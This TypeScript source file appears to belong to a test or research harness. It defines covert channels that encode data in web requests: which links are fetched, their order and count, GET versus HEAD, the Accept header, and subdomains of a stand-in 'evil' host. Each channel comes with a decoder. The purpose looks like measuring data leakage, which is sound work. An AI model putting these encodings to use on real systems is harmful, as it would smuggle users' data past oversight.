import { byPosition, type Channel, eachStep, get, grid, inOrder, letter, WORDS } from "./channel";

/** Requests of links that the stranger's page `/alphabet` names. */
export const links: Channel[] = [
  {
    ...{ name: "links by position, at once", uses: "grid", width: 4, symbols: 20 },
    send: (symbols, at) => [symbols.map(grid(at)).map((url) => get(url))],
    decode: (seen) => byPosition(20, seen),
  },
  {
    ...{ name: "links in sequence", uses: "letters", width: 6, symbols: 14 },
    send: (symbols, at) => eachStep(symbols.map(letter(at)).map((url) => get(url))),
    decode: (seen) => inOrder(seen, /^\/l\/(\d+)$/),
  },
  {
    ...{ name: "the order of sixteen links, twice", uses: "letters", width: 44, symbols: 2 },
    send: (symbols, at) =>
      eachStep(symbols.flatMap((number, set) => permuted(number).map((n) => get(letter(at)(n + SET * set))))),
    decode: (seen) => {
      const all = inOrder(seen, /^\/l\/(\d+)$/);
      return [0, 1].map((set) => numberOf(all.map((n) => n - SET * set).filter((n) => n >= 0 && n < SET)));
    },
  },
  {
    ...{ name: "the number of requests of each link", uses: "letters", width: 2, symbols: 26 },
    send: (symbols, at) => [
      symbols.flatMap((times, n) => Array.from({ length: times + 1 }, () => get(letter(at)(n)))),
    ],
    decode: (seen) => {
      const all = inOrder(seen, /^\/l\/(\d+)$/);
      return Array.from({ length: 26 }, (_, n) => {
        const times = all.filter((one) => one === n).length;
        return times > 0 ? times - 1 : undefined;
      });
    },
  },
  {
    ...{ name: "GET or HEAD", uses: "letters", width: 1, symbols: 52 },
    send: (symbols, at) => [
      symbols.map((bit, n) => get(letter(at)(n), { method: bit === 1 ? "HEAD" : "GET" })),
    ],
    decode: (seen) =>
      Array.from({ length: 52 }, (_, n) => {
        const found = seen.find(({ path }) => path === `/l/${n}`);
        return found && Number(found.method === "HEAD");
      }),
  },
  {
    ...{ name: "the header accept", uses: "letters", width: 2, symbols: 26 },
    send: (symbols, at) => [
      symbols.map((n, at4) => get(letter(at)(at4), { headers: { accept: ACCEPTS[n] } })),
    ],
    decode: (seen) =>
      Array.from({ length: 26 }, (_, n) => {
        const accept = String(seen.find(({ path }) => path === `/l/${n}`)?.headers.accept);
        const found = ACCEPTS.indexOf(accept);
        return found < 0 ? undefined : found;
      }),
  },
  {
    ...{ name: "subdomains that the page names", width: 4, symbols: 20 },
    send: (symbols, { evil }) =>
      eachStep(symbols.map((n) => get(`${evil.replace("//", `//${WORDS[n]}.`)}/s`))),
    decode: (seen) =>
      seen.flatMap(({ host, path }) => {
        const found = WORDS.indexOf(host.split(".")[0] ?? "");
        return path === "/s" && found >= 0 ? [found] : [];
      }),
  },
];

const SET = 16;
const ACCEPTS = ["text/html", "text/plain", "text/csv", "application/json"];

/** Returns the first sixteen letters in the order that encodes a number below 2 ** 44. */
function permuted(number: number): number[] {
  const left = Array.from({ length: 16 }, (_, n) => n);
  let rest = BigInt(number);
  return Array.from({ length: 16 }, (_, n) => {
    const base = BigInt(16 - n);
    const [chosen = 0] = left.splice(Number(rest % base), 1);
    rest /= base;
    return chosen;
  });
}

function numberOf(order: number[]): number | undefined {
  if (new Set(order).size < 16) return undefined;
  const left = Array.from({ length: 16 }, (_, n) => n);
  let number = 0n;
  let factor = 1n;
  for (const [n, letter] of order.slice(0, 16).entries()) {
    const place = left.indexOf(letter);
    left.splice(place, 1);
    number += BigInt(place) * factor;
    factor *= BigInt(16 - n);
  }
  return Number(number);
}
